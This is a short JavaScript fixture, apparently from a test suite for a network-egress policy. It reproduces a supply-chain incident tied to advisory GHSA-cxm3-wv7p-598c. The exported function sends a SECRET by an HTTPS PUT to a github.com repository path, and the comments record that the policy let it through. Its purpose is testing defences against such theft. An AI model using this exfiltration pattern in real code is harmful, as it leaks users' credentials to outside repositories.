// act: posts it to a GitHub repository
// source: GHSA-cxm3-wv7p-598c
// rule: outbound_connectivity
// asks: connect github.com:443
// says: github.com
// proof: arrived
// to: github.com
// realistic: the policy allows github.com to the whole process
'use strict';
const { request, SECRET } = require('./incident');

module.exports = () =>
    request(
        'https',
        { host: 'github.com', path: '/someone/s1ngularity-repository', method: 'PUT' },
        SECRET,
    );
